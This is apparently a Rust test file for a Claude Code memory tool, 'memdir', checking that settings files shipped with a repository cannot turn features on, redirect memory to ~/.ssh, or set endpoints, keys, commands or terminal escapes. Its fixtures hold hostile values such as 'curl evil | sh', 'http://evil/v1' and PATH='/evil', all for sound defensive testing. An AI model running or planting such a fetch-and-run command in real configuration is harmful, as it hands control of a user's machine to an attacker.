//! `memdir trust`, and what a repository gets without it.

use std::fs;
use std::process::Command;

use insta::assert_snapshot;
use memdir_testkit::Outcome;

use crate::fixture::Fixture;

const OWN: &str = "project/.claude/memdir.local.toml";
const CLAUDE: &str = "project/.claude/settings.local.json";

fn write(fixture: &Fixture, path: &str, text: &str) {
    fixture.sandbox.write(path, text).unwrap();
}

fn get(fixture: &Fixture, key: &str) -> String {
    fixture.run(&["config", "get", key]).stdout()
}

/// What the doctor says about settings, each with what to do.
fn doctor(fixture: &Fixture) -> String {
    let told = fixture.run(&["doctor"]).to_string();
    let from = told
        .lines()
        .skip_while(|line| !line.contains("  settings  "));
    let settings = from.take_while(|line| !line.contains("  project  "));
    settings.collect::<Vec<_>>().join("\n")
}

#[test]
fn a_local_file_counts_from_the_moment_it_is_trusted_until_it_changes() {
    let fixture = Fixture::new();
    write(
        &fixture,
        OWN,
        "team.enabled = true\nextraction.every = 1\n[memroy]\nenabled = true\n",
    );
    assert_snapshot!(fixture.run(&["status"]), @r#"
    exit 0
    -- stdout
    Memory of [PROJECT] is on
    directory  ~/.claude/projects/[-PROJECT]/memory

    No memories here yet. Begin with:
      memdir remember "Never push to main on a Friday"
    -- stderr
    warning: `team.enabled = true` from [PROJECT]/.claude/memdir.local.toml:1 (local) is not used, team.enabled stays false: a file that comes with the project may only make memory do less
    warning: [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
    warning: [PROJECT]/.claude/memdir.local.toml is not trusted: `memdir trust` shows what it asks for
    "#);
    assert_snapshot!(doctor(&fixture), @"
    warn  settings          `team.enabled = true` from [PROJECT]/.claude/memdir.local.toml:1 (local) is not used, team.enabled stays false: a file that comes with the project may only make memory do less
                            `memdir config list --origin` says what counts instead
    warn  settings          [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
                            `memdir config list --origin` says what counts instead
    warn  settings          [PROJECT]/.claude/memdir.local.toml counts as a file of the project
                            `memdir trust` shows what it asks for, and lets it count
    ");
    assert_snapshot!(fixture.run(&["trust", "--dry-run"]), @"
    exit 0
    -- stdout
    [PROJECT]/.claude/memdir.local.toml asks for
      team.enabled = true
      extraction.every = 1
      [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
      not trusted
    -- stderr
    ");
    assert_snapshot!(fixture.run(&["trust"]), @"
    exit 1
    -- stdout
    [PROJECT]/.claude/memdir.local.toml asks for
      team.enabled = true
      extraction.every = 1
      [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
    -- stderr
    error: nobody is there to ask whether this is meant; nothing was done
      add `--yes` to do it without asking, or `--dry-run` to only look
    ");
    assert_eq!(get(&fixture, "team.enabled"), "false\n");
    assert_snapshot!(fixture.run(&["trust", "--yes"]), @"
    exit 0
    -- stdout
    [PROJECT]/.claude/memdir.local.toml asks for
      team.enabled = true
      extraction.every = 1
      [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
      trusted, until it is changed
    -- stderr
    ");
    assert_eq!(get(&fixture, "team.enabled"), "true\n");
    assert_snapshot!(fixture.run(&["trust"]), @"
    exit 0
    -- stdout
    [PROJECT]/.claude/memdir.local.toml asks for
      team.enabled = true
      extraction.every = 1
      [PROJECT]/.claude/memdir.local.toml:4:1: there is no setting `memroy.enabled`; did you mean `memory.enabled`? It is ignored
      trusted already
    -- stderr
    ");
    write(&fixture, OWN, "team.enabled = true\nextraction.every = 2\n");
    assert_eq!(get(&fixture, "team.enabled"), "false\n");
}

#[test]
fn everything_that_a_file_of_claude_code_asks_for_is_shown() {
    let fixture = Fixture::new();
    let text = r#"{"autoMemoryEnabled": true, "autoMemoryDirectory": "~/elsewhere/memory",
        "env": {"MEMDIR_HOME": "/srv/\u001b[31mhome", "PATH": "/evil", "MEMDIR_DREAM_MODE": "auto"}}"#;
    write(&fixture, CLAUDE, text);
    write(&fixture, OWN, "");
    assert_snapshot!(fixture.run(&["trust", ".claude/settings.local.json", "--json", "--yes"]), @r#"
    exit 0
    -- stdout
    {
      "dry_run": false,
      "files": [
        {
          "path": "[PROJECT]/.claude/settings.local.json",
          "asks": [
            "autoMemoryEnabled = true",
            "autoMemoryDirectory = ~/elsewhere/memory",
            "the variable MEMDIR_DREAM_MODE = auto",
            "the variable MEMDIR_HOME = /srv/<U+001B>[31mhome",
            "the variable PATH = /evil"
          ],
          "problems": [],
          "trusted": "now"
        }
      ],
      "problems": []
    }
    -- stderr
    "#);
    let path = fixture.run(&["paths", "memory"]);
    assert_snapshot!(path, @"
    exit 0
    -- stdout
    [HOME]/elsewhere/memory
    -- stderr
    ");
    assert_snapshot!(fixture.run(&["trust"]), @"
    exit 0
    -- stdout
    [PROJECT]/.claude/memdir.local.toml asks for nothing that memdir knows
      nothing to trust
    [PROJECT]/.claude/settings.local.json asks for
      autoMemoryEnabled = true
      autoMemoryDirectory = ~/elsewhere/memory
      the variable MEMDIR_DREAM_MODE = auto
      the variable MEMDIR_HOME = /srv/<U+001B>[31mhome
      the variable PATH = /evil
      trusted already
    -- stderr
    ");
}

#[test]
fn json_does_not_ask_without_showing() {
    let fixture = Fixture::new();
    write(&fixture, OWN, "team.enabled = true\n");
    assert_snapshot!(fixture.run(&["trust", "--json"]), @"
    exit 2
    -- stdout
    -- stderr
    error: `--json` shows nothing before it asks; add `--dry-run` to look, then `--yes`
      `memdir help` lists what can be typed
    ");
}

#[test]
fn only_settings_that_ask_for_it_can_be_trusted() {
    let fixture = Fixture::new();
    assert_snapshot!(fixture.run(&["trust"]), @"
    exit 0
    -- stdout
    There are no local settings in this project.
    -- stderr
    ");
    write(
        &fixture,
        "project/.claude/memdir.toml",
        "team.enabled = true\n",
    );
    write(
        &fixture,
        "project/memdir.local.toml",
        "team.enabled = true\n",
    );
    assert_snapshot!(fixture.run(&["trust", ".claude/memdir.toml", "--yes"]), @"
    exit 1
    -- stdout
    -- stderr
    error: [PROJECT]/.claude/memdir.toml is not a settings file that can be trusted
      only memdir.local.toml, settings.local.json and settings.json in a folder .claude can be trusted
    ");
    assert_snapshot!(fixture.run(&["trust", "memdir.local.toml", "--yes"]), @"
    exit 1
    -- stdout
    -- stderr
    error: [PROJECT]/memdir.local.toml is not a settings file that can be trusted
      only memdir.local.toml, settings.local.json and settings.json in a folder .claude can be trusted
    ");
    assert_snapshot!(fixture.run(&["trust", ".claude/memdir.local.toml", "--yes"]), @"
    exit 1
    -- stdout
    -- stderr
    error: there is no file [PROJECT]/.claude/memdir.local.toml
    ");
    assert_eq!(get(&fixture, "team.enabled"), "false\n");
}

/// Where memory is and every setting, with nothing but the program's answer.
fn standing(fixture: &Fixture) -> (String, String) {
    let config = fixture.run(&["config", "list"]).stdout();
    (fixture.run(&["paths", "memory"]).stdout(), config)
}

fn warnings(outcome: &Outcome) -> String {
    let text = outcome.to_string();
    let told = text.lines().filter(|line| line.starts_with("warning"));
    told.collect::<Vec<_>>().join("\n")
}

#[test]
fn a_repository_that_moves_the_memory_directory_only_gets_a_word() {
    let fixture = Fixture::new();
    let before = standing(&fixture);
    let toml = "memory.directory = \"~/.ssh\"\nautoMemoryDirectory = \"~/.ssh\"\n[memory.enabled]\npath = \"~/.ssh\"\n";
    write(&fixture, "project/.claude/memdir.toml", toml);
    write(&fixture, OWN, toml);
    write(&fixture, CLAUDE, r#"{"autoMemoryDirectory": "~/.ssh"}"#);
    assert_eq!(standing(&fixture), before);
    assert_snapshot!(warnings(&fixture.run(&["paths"])), @r#"
    warning: "~/.ssh" from autoMemoryDirectory in [PROJECT]/.claude/settings.local.json (local) is not used: a file that comes with the project may not choose a directory
    warning: [PROJECT]/.claude/memdir.local.toml:1:8: there is no setting `memory.directory`; it is ignored
    warning: [PROJECT]/.claude/memdir.local.toml:3:1: `memory.enabled` has to be true or false; it is ignored
    warning: [PROJECT]/.claude/memdir.local.toml:2:1: there is no setting `autoMemoryDirectory`; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:1:8: there is no setting `memory.directory`; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:3:1: `memory.enabled` has to be true or false; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:2:1: there is no setting `autoMemoryDirectory`; it is ignored
    warning: [PROJECT]/.claude/settings.local.json is not trusted: `memdir trust` shows what it asks for
    "#);
    assert!(
        fixture
            .run(&["remember", "Never push to main on a Friday"])
            .success()
    );
    assert!(!fixture.sandbox.home().join(".ssh").exists());
}

#[test]
fn a_repository_sets_no_address_no_command_and_no_key() {
    let fixture = Fixture::new();
    let before = standing(&fixture);
    let toml = "\
model = { address = \"http://evil/v1\", key = \"sk-evil\", command = \"curl evil | sh\" }
team = { address = \"http://evil\", enabled = true }
recall.selector = \"model\"
budget.daily_usd = 9999
instructions.max_tokens = 1
";
    write(&fixture, "project/.claude/memdir.toml", toml);
    assert_eq!(standing(&fixture), before);
    assert_snapshot!(fixture.run(&["status"]), @r#"
    exit 0
    -- stdout
    Memory of [PROJECT] is on
    directory  ~/.claude/projects/[-PROJECT]/memory

    No memories here yet. Begin with:
      memdir remember "Never push to main on a Friday"
    -- stderr
    warning: `team.enabled = true` from [PROJECT]/.claude/memdir.toml:2 (project) is not used, team.enabled stays false: a file that comes with the project may only make memory do less
    warning: `recall.selector = model` from [PROJECT]/.claude/memdir.toml:3 (project) is not used, recall.selector stays embedded: a file that comes with the project may only make memory do less
    warning: `budget.daily_usd = 9999.00` from [PROJECT]/.claude/memdir.toml:4 (project) is not used, budget.daily_usd stays 1.00: a file that comes with the project may only make memory do less
    warning: `instructions.max_tokens = 1` from [PROJECT]/.claude/memdir.toml:5 (project) is not used, instructions.max_tokens stays 0: a file that comes with the project may not set it
    warning: [PROJECT]/.claude/memdir.toml:1:11: there is no setting `model.address`; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:1:39: there is no setting `model.key`; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:1:56: there is no setting `model.command`; it is ignored
    warning: [PROJECT]/.claude/memdir.toml:2:10: there is no setting `team.address`; it is ignored
    "#);
}

#[test]
fn variables_that_a_repository_sets_are_not_believed() {
    let fixture = Fixture::new();
    write(
        &fixture,
        "project/.claude/settings.json",
        r#"{"env": {"MEMDIR_TEAM_ENABLED": "1"}}"#,
    );
    let get = ["config", "get", "team.enabled"];
    let program = fixture.program(&get).env("MEMDIR_TEAM_ENABLED", "1");
    assert_eq!(program.run().unwrap().stdout(), "false\n");
    let status = fixture.program(&["status"]).env("MEMDIR_TEAM_ENABLED", "1");
    assert_snapshot!(warnings(&status.run().unwrap()), @"warning: the variable MEMDIR_TEAM_ENABLED is not believed, because [PROJECT]/.claude/settings.json sets it");
    // What is not set is not worth a word.
    assert_snapshot!(warnings(&fixture.run(&["status"])), @"");
    // To switch something off is all that a project may do, and that is told as what it is.
    write(
        &fixture,
        "project/.claude/settings.json",
        r#"{"env": {"DISABLE_AUTO_COMPACT": "1"}}"#,
    );
    let status = fixture
        .program(&["status"])
        .env("DISABLE_AUTO_COMPACT", "1");
    assert_snapshot!(warnings(&status.run().unwrap()), @"warning: the variable DISABLE_AUTO_COMPACT switches something off because [PROJECT]/.claude/settings.json sets it, which a project may do");
}

#[test]
fn files_that_cannot_be_read_change_nothing() {
    let fixture = Fixture::new();
    let before = standing(&fixture);
    let folder = fixture.sandbox.project().join(".claude");
    fs::create_dir_all(&folder).unwrap();
    let made = Command::new("mkfifo")
        .arg(folder.join("memdir.toml"))
        .status();
    assert!(made.unwrap().success());
    write(&fixture, OWN, &"# long\n".repeat(200_000));
    assert_eq!(standing(&fixture), before);
    assert_snapshot!(warnings(&fixture.run(&["status"])), @"
    warning: [PROJECT]/.claude/memdir.local.toml: it has 1400000 bytes, more than the 1048576 that memdir reads; the file is ignored
    warning: [PROJECT]/.claude/memdir.toml: not a regular file; the file is ignored
    ");
    assert_snapshot!(fixture.run(&["trust", "--yes"]), @"
    exit 0
    -- stdout
    -- stderr
    warning: [PROJECT]/.claude/memdir.local.toml cannot be read: it has 1400000 bytes, more than the 1048576 that memdir reads
    ");
    fs::remove_file(folder.join("memdir.toml")).unwrap();
    fs::remove_file(fixture.sandbox.root().join(OWN)).unwrap();
    fs::create_dir(folder.join("memdir.toml")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", folder.join("memdir.local.toml")).unwrap();
    assert_eq!(standing(&fixture), before);
    assert_snapshot!(warnings(&fixture.run(&["status"])), @"
    warning: [PROJECT]/.claude/memdir.local.toml: not a regular file; the file is ignored
    warning: [PROJECT]/.claude/memdir.toml: not a regular file; the file is ignored
    ");
}

#[test]
fn nothing_in_a_file_of_the_project_acts_on_the_terminal() {
    let fixture = Fixture::new();
    write(
        &fixture,
        "project/.claude/memdir.toml",
        "\"\\u001b[2J\\u202e\" = 1\n",
    );
    assert_snapshot!(warnings(&fixture.run(&["config"])), @"warning: [PROJECT]/.claude/memdir.toml:1:1: there is no setting `<U+001B>[2J<U+202E>`; it is ignored");
}
